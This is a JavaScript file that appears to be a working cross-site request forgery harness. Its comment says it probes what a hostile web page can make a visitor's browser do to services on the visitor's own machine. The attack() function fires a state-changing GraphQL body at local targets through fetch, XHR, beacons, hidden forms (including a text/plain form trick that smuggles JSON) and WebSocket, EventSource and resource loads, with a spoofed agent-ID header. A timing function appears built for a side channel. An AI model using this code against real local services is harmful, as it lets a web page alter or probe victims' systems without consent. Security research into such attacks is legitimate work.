// What a page of a stranger can make its reader's browser do, against targets on the reader's machine.
"use strict";

const SECONDS = 20;

function within(promise, name) {
    const late = new Promise(resolve => setTimeout(() => resolve("late"), SECONDS * 1000));
    return Promise.race([promise.catch(error => "failed"), late]).then(outcome => ({ name, outcome }));
}

async function asked(url, options) {
    const response = await fetch(url, options);
    if (response.type === "opaque") return "opaque";
    return "read " + response.status + " " + (await response.text());
}

function element(tag, attribute, url) {
    return new Promise(resolve => {
        const made = document.createElement(tag);
        made.onload = () => resolve("loaded");
        made.onloadeddata = () => resolve("loaded");
        made.onerror = () => resolve("failed");
        if (tag === "link") made.rel = "stylesheet";
        made[attribute] = url;
        document.body.appendChild(made);
    });
}

function form(url, method, enctype, fields) {
    return new Promise(resolve => {
        const frame = document.createElement("iframe");
        frame.name = "frame" + Math.random();
        document.body.appendChild(frame);
        const made = document.createElement("form");
        Object.assign(made, { action: url, method, enctype, target: frame.name });
        for (const [name, value] of Object.entries(fields)) {
            const input = document.createElement("input");
            Object.assign(input, { type: "hidden", name, value });
            made.appendChild(input);
        }
        document.body.appendChild(made);
        frame.onload = () => {
            try {
                resolve("read " + frame.contentDocument.body.innerText);
            } catch {
                resolve("opaque");
            }
        };
        made.submit();
    });
}

function socket(url) {
    return new Promise(resolve => {
        const made = new WebSocket(url.replace("http:", "ws:"));
        made.onopen = () => { made.send("hello"); resolve("open"); };
        made.onerror = () => resolve("failed");
    });
}

function events(url) {
    return new Promise(resolve => {
        const made = new EventSource(url);
        made.onopen = () => { made.close(); resolve("open"); };
        made.onerror = () => { made.close(); resolve("failed"); };
    });
}

function oldRequest(url, method, kind, body) {
    return new Promise(resolve => {
        const made = new XMLHttpRequest();
        made.onload = () => resolve("read " + made.status + " " + made.responseText);
        made.onerror = () => resolve("failed");
        made.open(method, url);
        if (kind) made.setRequestHeader("Content-Type", kind);
        made.send(body);
    });
}

async function beacon(url, kind, body) {
    return navigator.sendBeacon(url, new Blob([body], { type: kind })) ? "sent" : "failed";
}

// Returns what came of each attempt: [{name, outcome}]. `body` is a GraphQL request that changes something.
async function attack(targets, paths, body) {
    const tries = [];
    const attempt = (name, promise) => tries.push(within(promise, name));
    const kinds = ["text/plain", "application/json", "application/x-www-form-urlencoded", "multipart/form-data"];
    for (const target of targets) {
        for (const path of paths) {
            const url = target + path;
            for (const mode of ["cors", "no-cors", "same-origin"]) {
                attempt(`fetch GET ${mode} ${url}`, asked(url, { mode }));
                for (const kind of kinds) {
                    const options = { mode, method: "POST", headers: { "Content-Type": kind }, body };
                    attempt(`fetch POST ${mode} ${kind} ${url}`, asked(url, options));
                }
                attempt(`fetch POST ${mode} bare ${url}`, asked(url, { mode, method: "POST", body: new Blob([body]) }));
            }
            for (const method of ["PUT", "DELETE", "PATCH", "OPTIONS", "HEAD"])
                attempt(`fetch ${method} ${url}`, asked(url, { method }));
            const carried = { method: "POST", credentials: "include", mode: "no-cors", body, keepalive: true };
            attempt(`fetch keepalive ${url}`, asked(url, carried));
            attempt(`fetch with a header ${url}`, asked(url, { headers: { "X-PREFECT-AGENT-ID": "page" } }));
            for (const kind of [null, ...kinds]) attempt(`XHR ${kind} ${url}`, oldRequest(url, "POST", kind, body));
            attempt(`XHR GET ${url}`, oldRequest(url, "GET", null, null));
            for (const kind of kinds) attempt(`beacon ${kind} ${url}`, beacon(url, kind, body));
            // A name and a value with a = between them: the way to send JSON by a form.
            const cut = body.lastIndexOf(" ");
            const fields = { [body.slice(0, cut) + ' ", "x": "']: '"}' };
            attempt(`form plain ${url}`, form(url, "post", "text/plain", fields));
            attempt(`form ${url}`, form(url, "post", "application/x-www-form-urlencoded", { query: body }));
            attempt(`form multipart ${url}`, form(url, "post", "multipart/form-data", { query: body }));
            attempt(`form GET ${url}`, form(url, "get", "application/x-www-form-urlencoded", { query: body }));
            attempt(`img ${url}`, element("img", "src", url));
            attempt(`script ${url}`, element("script", "src", url));
            attempt(`link ${url}`, element("link", "href", url));
            attempt(`video ${url}`, element("video", "src", url));
            attempt(`embed ${url}`, element("embed", "src", url));
            attempt(`websocket ${url}`, socket(url));
            attempt(`events ${url}`, events(url));
        }
    }
    return Promise.all(tries);
}

// Returns how long each of these bodies takes, in ms, in turns.
async function times(url, bodies, rounds) {
    const spent = bodies.map(() => []);
    for (let round = 0; round < rounds; round++)
        for (const [number, body] of bodies.entries()) {
            const began = performance.now();
            try { await fetch(url, { method: "POST", mode: "no-cors", body }); } catch {}
            spent[number].push(performance.now() - began);
        }
    return spent;
}
